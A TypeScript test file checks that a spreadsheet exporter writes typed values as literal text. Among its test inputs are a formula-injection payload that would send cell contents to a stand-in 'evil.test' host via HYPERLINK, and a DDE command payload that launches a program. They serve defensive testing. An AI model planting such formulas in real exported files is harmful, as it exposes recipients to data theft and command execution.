import { buffer } from 'node:stream/consumers'
import { setImmediate } from 'node:timers/promises'
import { read, type WorkSheet } from '@e965/xlsx'
import { strFromU8, unzipSync } from 'fflate'
import { expect, test } from 'vitest'
import type { Cell } from '../../../server/platform/table/cells.ts'
import { spreadsheetOf } from '../../../server/platform/table/spreadsheet.ts'

/** Workbooks as SheetJS reads them, which shares no code with our writer. */

const HEADERS = ['Reference', 'Value']

async function* rowsOf(...values: Cell[]): AsyncGenerator<Cell[]> {
  yield HEADERS
  for (const value of values) yield ['PB-2030-AAAAAA', value]
}

async function readBack(...values: Cell[]): Promise<WorkSheet> {
  const book = read(await buffer(spreadsheetOf('Applications', rowsOf(...values))), { cellNF: true })
  expect(book.SheetNames).toEqual(['Applications'])
  return book.Sheets['Applications'] ?? {}
}

test.each([
  ['an ID number with leading zeros', '00010112345'],
  ['a phone number with a leading zero', '0811234567'],
  ['an international phone number', '+264 81 123 4567'],
  ['more digits than a number holds', '12345678901234567890'],
  ['a number with an exponent', '12E5'],
  ['a day', '01/02/2030'],
  ['a month', 'MAR1'],
  ['a fraction', '1/2'],
  ['a truth value', 'TRUE'],
  ['an error value', '#N/A'],
  ['a formula', '=HYPERLINK("https://evil.test/?"&A1)'],
  ['a formula in a spreadsheet’s old syntax', '@SUM(A1:A9)'],
  ['a command', "=cmd|' /C calc'!A0"],
  ['a leading apostrophe', "'0811234567"],
  ['a link', 'https://example.org/?a=1&b=<2>'],
  ['white space around it', '  two  spaces  '],
  ['a tab', 'one\ttwo'],
  ['a line break', 'Box 7\nWindhoek'],
  ['a carriage return', 'Box 7\rWindhoek\r'],
  ['what looks like an escaped character', '_x000D_ and _x0041_, _x005F_x000D_'],
  ['control characters', 'a\u0000b\u0001c\u001Fd\u007Fe\u0085f'],
  ['no characters', 'a\uFFFEb\uFFFFc'],
  ['characters of every plane', 'Ümläut ǂNūkhoe 👩‍🎓 𝒳 עברית'],
  ['markup', '<b>"bold" & ]]></b>'],
])('%s stays the text that was typed', async (_, value) => {
  const { B2: cell } = await readBack(value)
  expect(cell).toMatchObject({ t: 's', v: value, z: '@' })
  expect(cell.f).toBeUndefined()
  expect(cell.l).toBeUndefined()
})

test('replaces half a character, which no file can carry', async () => {
  expect((await readBack('a\uD83D b'))['B2'].v).toBe('a\uFFFD b')
})

test('continues a text that is too long for a cell beside the table', async () => {
  const long = `${'a'.repeat(32_766)}🎓${'b'.repeat(70_000)}`
  const sheet = await readBack(long, 'short')
  const cells = ['B2', 'C2', 'D2', 'E2'].map((at) => String(sheet[at].v))
  expect(cells.join('')).toBe(long)
  expect(Math.max(...cells.map((each) => each.length))).toBeLessThanOrEqual(32_767)
  expect(cells[0]).toBe('a'.repeat(32_766))
  expect([sheet['C1'].v, sheet['C3']]).toEqual(['Rest of long texts', undefined])
})

test('writes numbers, days and instants as such', async () => {
  const sheet = await readBack(2, { day: '1995-02-28T00:00:00.000Z' }, { instant: '2030-02-01T08:00:00.000Z' })
  expect(sheet['B2']).toMatchObject({ t: 'n', v: 2 })
  expect(sheet['B3']).toMatchObject({ t: 'n', v: 34_758, z: 'dd/mm/yyyy', w: '28/02/1995' })
  expect(sheet['B4']).toMatchObject({ t: 'n', w: '2030-02-01 08:00:00' })
})

test('writes a date as text if spreadsheets would show another one', async () => {
  const sheet = await readBack({ day: '1899-12-31' }, { day: '1900-02-28' }, { day: '1900-03-01' }, { day: 'unknown' })
  expect(['B2', 'B3', 'B4', 'B5'].map((at) => [sheet[at].t, sheet[at].w ?? sheet[at].v])).toEqual([
    ['s', '31/12/1899'],
    ['s', '28/02/1900'],
    ['n', '01/03/1900'],
    ['s', 'unknown'],
  ])
})

test('freezes the header row and filters all rows', async () => {
  const archive = unzipSync(await buffer(spreadsheetOf('Applications', rowsOf('x', 'y'))))
  const sheet = strFromU8(archive['xl/worksheets/sheet1.xml'] ?? new Uint8Array())
  expect(sheet).toContain('<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>')
  expect((await readBack('x', 'y'))['!autofilter']).toEqual({ ref: 'A1:C3' })
})

test('names the columns after Z as spreadsheets do', async () => {
  async function* wide() {
    yield Array.from({ length: 703 }, (_, index) => `c${index}`)
  }
  const sheet = read(await buffer(spreadsheetOf('Wide', wide()))).Sheets['Wide'] ?? {}
  expect(['Z1', 'AA1', 'AZ1', 'ZZ1', 'AAA1'].map((at) => sheet[at].v)).toEqual(['c25', 'c26', 'c51', 'c701', 'c702'])
})

test('reads rows only as fast as the file is read', async () => {
  let rows = 0
  async function* many(): AsyncGenerator<Cell[]> {
    for (;;) {
      rows += 1
      // Longer than a chunk.
      yield ['x', String(Math.random()).repeat(5_000)]
      await setImmediate()
    }
  }
  const reading = spreadsheetOf('Applications', many())
  for await (const _ of reading) if (rows > 50) break
  const before = rows
  for (let turn = 0; turn < 50; turn += 1) await setImmediate()
  expect(rows - before).toBeLessThanOrEqual(1)
})

test('passes an error of the rows to the reader', async () => {
  async function* broken(): AsyncGenerator<Cell[]> {
    yield HEADERS
    throw new Error('the database is away')
  }
  await expect(buffer(spreadsheetOf('Applications', broken()))).rejects.toThrow('the database is away')
})
